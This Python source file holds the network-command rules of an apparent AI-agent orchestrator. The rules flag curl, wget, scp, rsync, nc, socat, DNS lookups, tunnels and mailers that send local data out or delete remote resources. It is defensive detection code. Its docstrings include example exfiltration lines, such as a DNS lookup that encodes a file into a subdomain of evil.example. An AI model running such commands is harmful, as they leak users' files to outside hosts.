"""Rules for network programs: rsync, scp, curl, wget, ssh, openssl, gpg, ip, and raw senders (nc, socat...).

Uploads ask a person: a command that sends local data to another host (``curl -d/-F/-T/--data*/--json``, ``wget
--post-*``, ``scp``/``rsync`` to a remote, ``nc``, ``socat``, ``telnet``, ``sftp``, ``ftp``, a pipe into one of
them) is tagged with the ``upload`` risk, which the approval hook turns into a question (docs/security.md). The
kernel's network rule (``sandbox.network``) cannot tell an upload from a download on the same port.
"""
from __future__ import annotations

import posixpath
import re

from orchestrator.shell.parse import _LazyRe
from orchestrator.shell.words import W, _has, _split_opt_words, _split_opts
from orchestrator.shell.rules.fs import _SYSTEM_PATH, _sources

#: programs that send a name to a resolver (or another host's service): :func:`_resolver`
_RESOLVERS = ("dig", "nslookup", "host", "drill", "getent", "ping", "ping6", "traceroute", "tracepath", "whois")
TYPE_CHECKING = False
if TYPE_CHECKING:  # annotations only (strings at runtime): keep `typing` off the import path
    from typing import Callable
    from orchestrator.shell.run import _Run


_PARAM = _LazyRe(r"\$\{?[#!]?([A-Za-z_][A-Za-z0-9_]*|[@*0-9])")


def _computed(run: _Run, w: W) -> bool:
    """Whether the word ``w`` carries data the command produced itself: a command substitution, a variable the
    command assigned or read (``d=$(cat f); curl "http://h/?d=$d"``, ``read d < f``), a positional parameter
    (``set -- …; "$@"``; in a function's body at its definition they are left to each call, which walks the body
    again with the call's words: ``_Walker.call``), or what ``xargs``/``find -exec`` put in its place. A variable
    of the environment the agent was started with (``$API_URL``) is not: the command cannot choose its value."""
    if "$(" in w.text or "`" in w.text or (run.xargs and "{}" in w.text):
        return True
    if not w.dyn:
        return False
    return any(m.group(1) in run.wk.assigned or
               (not m.group(1)[0].isalpha() and m.group(1)[0] != "_" and not run.wk.defining)
               for m in _PARAM.finditer(w.text))


def _rsync(run: _Run) -> None:
    opts, pos = _split_opts(run.args, ("-e", "--rsh", "--exclude", "--include", "--filter", "-f",
                                      "--exclude-from", "--include-from", "--files-from", "--chmod",
                                      "--backup-dir", "--suffix", "--log-file", "--password-file",
                                      "--port", "--timeout", "--bwlimit", "-T", "--temp-dir",
                                      "--partial-dir", "--compare-dest", "--copy-dest", "--link-dest",
                                      "-B", "--block-size", "--max-size", "--min-size", "--out-format",
                                      "--info", "--debug", "--rsync-path", "-M", "--remote-option"))
    if _has(opts, "--help", "--version") and not pos:
        return
    for v in opts.get("-e", []) + opts.get("--rsh", []):
        if not re.match(r"^\s*(ssh|/usr/bin/ssh)(\s|$)", v):
            run.flag("unknown", "rsync -e runs a custom remote-shell command")
            return
    if _has(opts, "-n", "--dry-run", "--list-only"):
        return
    if len(pos) < 2:
        if len(pos) == 1 and not run.xargs:
            return  # rsync SRC lists like ls
        run.flag("mutating", "rsync")
        run.acc.unresolved = True
        return
    dest = pos[-1]
    remote = bool(re.match(r"^[^/]*:", dest.text)) or dest.text.startswith("rsync://")
    destructive = any(o.startswith("--delete") or o in ("--remove-source-files", "--del") for o in opts)
    kind = "destructive" if destructive else "mutating"
    if remote:
        run.flag(kind, f"rsync to remote {dest.text}" + (" with --delete" if destructive else ""))
        run.tag("upload")
    else:
        before = len(run.wk.acc.writes)
        run.write(dest, "rsync" + (" --delete" if destructive else ""), kind)
        acc = run.wk.acc
        srcs = pos[:-1]
        if _has(opts, "--link-dest"):
            op = "ln"  # hard links to the files of another tree
        else:
            linking = (_has(opts, "-a", "--archive", "-l", "--links", "-H", "--hard-links")
                       and not _has(opts, "-L", "--copy-links"))
            # rsync writes a temporary file and renames it over the destination, unless it writes in place
            inplace = _has(opts, "--inplace", "--append", "--append-verify", "--write-devices")
            op = ("cplink" if linking else "copy") if inplace else ("cplink-replace" if linking else "replace")
        if len(acc.writes) > before:
            # "SRC/" copies the *contents* of SRC into DEST: not DEST/<basename>
            named = all(not p.text.endswith("/") and posixpath.basename(p.text) not in ("", ".") for p in srcs)
            run.entry(op, _sources(run, srcs), named)
    if "--remove-source-files" in opts:
        for s in pos[:-1]:
            if not re.match(r"^[^/]*:", s.text):
                run.delete(s, "rsync --remove-source-files", "destructive")


def _scp(run: _Run) -> None:
    opts, pos = _split_opts(run.args, ("-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-D", "-X"))
    if len(pos) < 2:
        return
    dest = pos[-1]
    if re.match(r"^[^/]*:", dest.text) or dest.text.startswith("scp://"):
        path = dest.text.split(":", 1)[1] if ":" in dest.text else ""
        kind = "destructive" if path in ("/",) or _SYSTEM_PATH.match(path) else "mutating"
        run.flag(kind, f"scp to remote {dest.text}")
        run.tag("upload")
    else:
        run.write(dest, "scp")


def _curl(run: _Run) -> None:
    words, pos = _split_opt_words(run.args, _CURL_VALUED)
    opts = {k: [w.text for w in v] for k, v in words.items()}
    if _has(opts, "--help", "-h", "-V", "--version", "-M", "--manual") and not pos:
        return
    for o in ("-o", "--output", "-c", "--cookie-jar", "-D", "--dump-header", "--trace", "--trace-ascii",
              "--stderr", "--libcurl", "--etag-save", "--hsts", "--alt-svc"):
        for v in opts.get(o, []):
            if v != "-":
                run.write(W(v), f"curl {o}")
    if _has(opts, "-O", "--remote-name", "--remote-name-all", "-J", "--remote-header-name"):
        run.acc.unresolved = True
        run.write(W((opts.get("--output-dir") or ["."])[-1]), "curl -O")
    if _has(opts, "-K", "--config"):
        run.flag("unknown", "curl -K reads options from a file")
    method = ""
    for v in opts.get("-X", []) + opts.get("--request", []):
        method = v.upper()
    if method == "DELETE":
        run.flag("destructive", "curl -X DELETE deletes a remote resource")
        return
    quotes = [q.lstrip("*+-").strip() for q in opts.get("-Q", []) + opts.get("--quote", [])]
    qverbs = [q.split(None, 1)[0].upper() if q else "" for q in quotes]
    if any(v in ("DELE", "RMD", "RM", "RMDIR", "XRMD") for v in qverbs):
        run.flag("destructive", "curl -Q deletes a remote file or directory")
        return
    # FTP quote commands that only query the server or change the session's directory/transfer mode.
    ftp_read = all(v in _FTP_READ_CMDS for v in qverbs)
    data = _has(opts, "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F",
                "--form", "--form-string", "-T", "--upload-file", "--json", "--mail-rcpt", "--mail-from",
                "--ftp-create-dirs") or not ftp_read
    sends = _has(opts, "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F",
                 "--form", "--form-string", "-T", "--upload-file", "--json", "--mail-rcpt", "--url-query") or \
        any(o.startswith("--expand-") for o in opts) or \
        any(v.startswith("@") for o in ("-H", "--header") for v in opts.get(o, [])) or \
        any("@" in v for v in opts.get("--variable", [])) or \
        any(p.text.lower().startswith("telnet:") for p in pos + [W(v) for v in opts.get("--url", [])])
    # (a header file, a variable read from a file, or telnet://, which sends what the command reads on stdin)
    computed = [w.text for w in pos + [v for o in _CURL_COMPUTED for v in words.get(o, [])] if _computed(run, w)]
    if run.xargs and not computed and pos:
        computed = ["(arguments from xargs)"]
    if sends or computed:
        # local data leaves the machine (a body, a file, or a URL/header built from a command's output)
        run.tag("upload")
        if computed and not sends:
            run.flag("mutating", "curl sends a command's output in its URL or headers", "upload")
        elif not data:
            run.flag("mutating", "curl sends a file or its input to a remote server", "upload")
    if method and method not in ("GET", "HEAD", "OPTIONS", "TRACE") or data:
        urls = " ".join(p.text for p in pos) + " " + " ".join(opts.get("--url", []))
        body = " ".join(v for o in ("-d", "--data", "--data-raw", "--data-binary", "--json") for v in opts.get(o, []))
        if _DESTRUCTIVE_ENDPOINT.search(urls) or re.search(r"\bmutation\b[^}]*\b(delete|remove|purge|drop)",
                                                             body, re.I):
            run.flag("destructive", "curl calls a destructive API endpoint")
            return
        run.flag("mutating", f"curl sends data ({method or 'POST'}) to a remote server")
    for p in pos:
        if p.text.startswith("file://"):
            pass


#: curl options that take a value
_CURL_VALUED = (
    "-o", "--output", "-X", "--request", "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode",
    "--data-ascii", "-F", "--form", "--form-string", "-T", "--upload-file", "-H", "--header", "-u", "--user",
    "-A", "--user-agent", "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-D", "--dump-header",
    "--output-dir", "-m", "--max-time", "--connect-timeout", "-x", "--proxy", "-w", "--write-out",
    "--json", "-K", "--config", "-E", "--cert", "--key", "--cacert", "-r", "--range", "-Y", "-y", "-z",
    "--retry", "--resolve", "--url", "--limit-rate", "-C", "--continue-at", "--trace", "--trace-ascii",
    "--stderr", "--libcurl", "--etag-save", "--hsts", "--alt-svc", "-Q", "--quote", "--mail-from",
    "--mail-rcpt", "--variable", "--expand-data", "--expand-header", "--aws-sigv4", "--oauth2-bearer",
    "--url-query", "--expand-url", "--expand-user", "--expand-referer", "--expand-user-agent", "--expand-cookie",
    "--expand-json", "--expand-url-query", "--expand-form", "--expand-upload-file")
#: curl options whose value goes to the server (a value the command computed is data leaving the machine)
_CURL_COMPUTED = ("-H", "--header", "-u", "--user", "--url", "-b", "--cookie", "-e", "--referer", "-A",
                  "--user-agent", "--url-query", "-x", "--proxy", "-d", "--data", "--json")
_FTP_READ_CMDS = frozenset("PWD XPWD LIST NLST STAT SIZE MDTM NOOP HELP SYST TYPE PASV EPSV CWD XCWD CDUP "
                           "XCUP FEAT MLST MLSD".split())
_DESTRUCTIVE_ENDPOINT = _LazyRe(r"(?i)(/|_|\b)(do)?(delete|remove|purge|drop|wipe|destroy|truncate|shutdown|"
                                   r"_close|flush)(_by_query|_series|-batch|\b|[A-Z_/?-])")


def _wget(run: _Run) -> None:
    opts, pos = _split_opts(run.args, ("-O", "--output-document", "-o", "--output-file", "-a", "--append-output",
                                      "-P", "--directory-prefix", "-i", "--input-file", "--method", "--body-data",
                                      "--post-data", "--post-file", "--body-file", "-U", "--user-agent",
                                      "--header", "-t", "--tries", "-T", "--timeout", "-e", "--execute",
                                      "--user", "--password", "-w", "--wait", "-Q", "--quota", "-l", "--level",
                                      "-A", "--accept", "-R", "--reject", "-D", "--domains", "--load-cookies",
                                      "--save-cookies", "--ca-certificate", "--certificate", "--private-key"))
    if _has(opts, "--help", "-h", "-V", "--version") and not pos:
        return
    method = (opts.get("--method") or [""])[-1].upper()
    if method == "DELETE":
        run.flag("destructive", "wget --method=DELETE deletes a remote resource")
        return
    words, _ = _split_opt_words(run.args, ("--header", "-e", "--execute", "-U", "--user-agent", "--user",
                                            "--password", "--referer", "-B", "--base", "--body-data",
                                            "--post-data"))
    sent = [w for w in _ + [v for vs in words.values() for v in vs] if _computed(run, w)]
    if sent or (_has(opts, "-i", "--input-file") and _has(opts, "-B", "--base", "-F", "--force-html")) or \
            any(re.match(r"(?i)\s*(header|post_?data|post_?file|body_?data|body_?file)\s*=", v)
                for v in opts.get("-e", []) + opts.get("--execute", [])):
        # a URL, header or body the command computed, or a file's lines sent as URLs (-i with a base)
        run.flag("mutating", "wget sends local data in its request", "upload")
    if method not in ("", "GET", "HEAD") or _has(opts, "--post-data", "--post-file", "--body-data", "--body-file"):
        run.flag("mutating", "wget sends data to a remote server")
        if _has(opts, "--post-data", "--post-file", "--body-data", "--body-file"):
            run.tag("upload")
    for o in ("-o", "--output-file", "-a", "--append-output", "--save-cookies"):
        for v in opts.get(o, []):
            run.write(W(v), f"wget {o}")
    outs = opts.get("-O", []) + opts.get("--output-document", [])
    if outs:
        for v in outs:
            if v != "-":
                run.write(W(v), "wget -O")
        return
    if _has(opts, "--spider"):
        return
    if pos or _has(opts, "-i", "--input-file"):
        run.acc.unresolved = True
        run.write(W((opts.get("-P") or opts.get("--directory-prefix") or ["."])[-1]), "wget download")


def _openssl(run: _Run) -> None:
    opts, pos = _split_opts(run.args, ())
    sub = pos[0].text if pos else ""
    outs = [i for i, a in enumerate(run.args) if a.text in ("-out", "-keyout")]
    for i in outs:
        if i + 1 < len(run.args):
            run.write(run.args[i + 1], f"openssl {run.args[i].text}")
    if outs:
        return
    if sub in ("s_client", "s_time") and not _has(_split_opts(run.args, ())[0], "-help"):
        # whatever it reads on stdin goes to the server, like nc
        run.flag("mutating", f"openssl {sub} sends its input to another host", "upload")
        return
    if sub in ("version", "help", "x509", "s_client", "verify", "ciphers", "dgst", "list", "crl", "asn1parse",
               "req", "rsa", "ec", "pkey", "base64", "enc", "speed", "errstr", "sess_id", "pkcs7", "pkcs12",
               "smime", "cms", "ocsp", "prime", "rand", "storeutl", "nseq", "x509v3", "sha256", "md5", "sha1"):
        if sub in ("genrsa", "genpkey", "req") and "-new" in [a.text for a in run.args]:
            run.flag("mutating", f"openssl {sub}")
        return
    run.flag("mutating", f"openssl {sub}")


def _gpg(run: _Run) -> None:
    opts, pos = _split_opts(run.args, ("-o", "--output", "-r", "--recipient", "-u", "--local-user",
                                      "--homedir", "--keyserver"))
    if _has(opts, "--list-keys", "-k", "--list-secret-keys", "-K", "--verify", "--fingerprint", "--version",
            "--help", "--list-sigs", "--check-sigs", "--list-packets") and not _has(opts, "-o", "--output"):
        return
    if _has(opts, "--delete-key", "--delete-keys", "--delete-secret-key", "--delete-secret-keys",
            "--delete-secret-and-public-key"):
        run.flag("destructive", "gpg deletes keys")
        return
    for v in opts.get("-o", []) + opts.get("--output", []):
        run.write(W(v), "gpg -o")
    run.flag("mutating", "gpg")


def _ssh(run: _Run) -> None:
    opts, pos = _split_opts(run.args, ("-p", "-i", "-o", "-F", "-l", "-J", "-L", "-R", "-D", "-b", "-c", "-E",
                                      "-e", "-I", "-m", "-O", "-Q", "-S", "-W", "-w", "-B"))
    if _has(opts, "-V", "-G", "-Q") and not pos[1:]:
        return
    if len(pos) >= 2:
        run.code(" ".join(p.text for p in pos[1:]), "ssh remote command")
        run.flag("unknown", "ssh runs a command on a remote host")
        return
    run.flag("unknown", "ssh opens a remote session")


_IP_READ = ("show", "list", "lst", "ls", "sh", "get", "monitor", "help", "identify", "pids")


def _ip(run: _Run) -> None:
    """ip [OPTIONS] OBJECT [COMMAND ...]: no command or a show/list/get command is read-only."""
    args = [a for a in run.args]
    k = 0
    while k < len(args) and args[k].text.startswith("-"):
        if args[k].text in ("-n", "-netns", "-b", "-batch", "-rc", "-rcvbuf", "-l", "-loops", "-f", "-family"):
            if args[k].text in ("-b", "-batch"):
                run.flag("unknown", "ip -batch runs commands from a file")
                return
            k += 1
        if args[k].text in ("-all", "-a") and any(a.text == "exec" for a in args):
            run.flag("unknown", "ip netns exec runs a command")
            return
        k += 1
    rest = [a.text for a in args[k + 1:]]
    if k < len(args) and args[k].text in ("monitor", "mo", "mon"):
        return
    if not rest or rest[0] in _IP_READ or (rest[0].startswith("-") and not any(
            r in ("add", "del", "delete", "change", "replace", "set", "flush", "append", "prepend", "exec",
                  "attach", "detach", "save", "restore", "update", "test", "up", "down") for r in rest)):
        return
    if rest[0] in ("exec",) or "exec" in rest[:2]:
        run.flag("unknown", "ip netns exec runs a command")
        return
    kind = "destructive" if rest[0] in ("flush", "del", "delete") and args[k].text.startswith(("r", "a")) else \
        "mutating"
    run.flag(kind, f"ip {args[k].text} {rest[0]}")


def _iptables(run: _Run) -> None:
    changes = ("-A", "-D", "-F", "-X", "-I", "-R", "-P", "-Z", "-N")
    if any(a.text in ("-L", "--list", "-S", "--list-rules", "-n") and not any(b.text in changes for b in run.args)
           for a in run.args):
        return
    destroys = any(b.text in ("-F", "--flush", "-X") for b in run.args)
    run.flag("destructive" if destroys else "mutating", "iptables changes firewall rules")


def _sender(run: _Run) -> None:
    """nc/ncat/netcat/socat/telnet/sftp/ftp/lftp: whatever they read (stdin, a file, a terminal) goes to another
    host. Only asking for help or a version, and a port scan (``nc -z``, nothing sent), are read-only."""
    texts = [a.text for a in run.args]
    if not texts or all(t in ("-h", "--help", "-V", "--version", "-help") for t in texts):
        return
    if run.name in ("nc", "ncat", "netcat") and any(t.startswith("-") and "z" in t and not t.startswith("--")
                                                     for t in texts):
        return
    run.flag("mutating", f"{run.name} sends local data to another host", "upload")


_HTTPIE_METHOD = _LazyRe(r"^(GET|HEAD|OPTIONS|POST|PUT|PATCH|DELETE|[A-Z]+)$")
#: the separator of an httpie request item: ``==`` query, ``:`` header, the others a body field or file
_HTTPIE_ITEM = _LazyRe(r"^(?:[^=:@\\]|\\.)*?(==|:=@|=@|:=|=|@|:)")


def _httpie(run: _Run) -> None:
    """httpie (``http``/``https``) and xh: ``[METHOD] URL [ITEM...]``. DELETE is destructive; a body item
    (``k=v``, ``k:=json``, ``f@file``, ``k=@file``), a raw body from stdin or a file, or another method than
    GET/HEAD/OPTIONS sends local data (an upload, like curl -d); ``k==v`` query items and headers built from the
    command's output too."""
    opts, pos = _split_opt_words(run.args, ("-a", "--auth", "-A", "--auth-type", "--raw", "-o", "--output",
                                           "--session", "--session-read-only", "--verify", "--cert", "--cert-key",
                                           "--proxy", "--timeout", "--max-redirects", "--pretty", "-s", "--style",
                                           "-p", "--print", "--format-options", "--response-charset"))
    if not pos:
        return
    method = pos[0].text.upper() if len(pos) > 1 and _HTTPIE_METHOD.match(pos[0].text) else ""
    items = pos[2:] if method else pos[1:]
    for o in ("-o", "--output", "--session"):
        for v in opts.get(o, []):
            run.write(v, f"{run.name} {o}")
    if ("-d" in opts or "--download" in opts) and not (opts.get("-o") or opts.get("--output")):
        run.acc.unresolved = True
        run.write(W("."), f"{run.name} --download")  # a file named after the URL or the response
    if method == "DELETE":
        run.flag("destructive", f"{run.name} DELETE deletes a remote resource")
        return
    seps = [m.group(1) if m else "" for m in (_HTTPIE_ITEM.match(w.text) for w in items)]
    body = [s for s in seps if s not in ("", "==", ":")]
    if body or "--raw" in opts or method not in ("", "GET", "HEAD", "OPTIONS") or \
            any(_computed(run, w) for w in items + pos[:2]) or run.ctx.piped:
        run.flag("mutating", f"{run.name} sends local data to a remote server", "upload")


def _mailer(run: _Run) -> None:
    """mail/mailx/sendmail/swaks/mutt/msmtp: a message, its body read from stdin or a file, goes to another host."""
    texts = [a.text for a in run.args]
    if texts and all(t in ("-h", "--help", "-V", "--version", "-v") for t in texts):
        return
    run.flag("mutating", f"{run.name} sends a message to another host", "upload")


def _tunnel(run: _Run) -> None:
    """ngrok/cloudflared/localtunnel/bore: a local port (and whatever serves it) is reachable from the internet."""
    words = [a.text for a in run.args if not a.text.startswith("-")]
    texts = [a.text for a in run.args]
    if not texts or all(t in ("-h", "--help", "-v", "-V", "--version", "version", "help") for t in texts) or \
            (words[:1] in (["config"], ["update"], ["login"], ["diagnose"]) and run.name in ("ngrok", "cloudflared")):
        return
    run.flag("mutating", f"{run.name} exposes a local port to the internet", "upload")


def _resolver(run: _Run) -> None:
    """dig/nslookup/host/getent/ping/traceroute/whois: a name the command computed goes out in a DNS query (UDP,
    which no kernel rule here filters) -- ``nslookup $(base64 -w0 f).evil.example`` is an upload."""
    if any(_computed(run, a) for a in run.args):
        run.flag("mutating", f"{run.name} sends a name the command computed to a resolver", "upload")


RULES: dict[str, Callable[[_Run], None]] = {
    "rsync": _rsync, "scp": _scp, "curl": _curl, "wget": _wget, "ssh": _ssh, "openssl": _openssl,
    "gpg": _gpg, "gpg2": _gpg, "ip": _ip, "iptables": _iptables,
    "nc": _sender, "ncat": _sender, "netcat": _sender, "socat": _sender, "telnet": _sender, "sftp": _sender,
    "ftp": _sender, "lftp": _sender,
    **dict.fromkeys(_RESOLVERS, _resolver),
    **dict.fromkeys(("http", "https", "xh", "xhs"), _httpie),
    **dict.fromkeys(("mail", "mailx", "s-nail", "sendmail", "swaks", "mutt", "msmtp"), _mailer),
    **dict.fromkeys(("ngrok", "cloudflared", "lt", "localtunnel", "bore"), _tunnel),
}
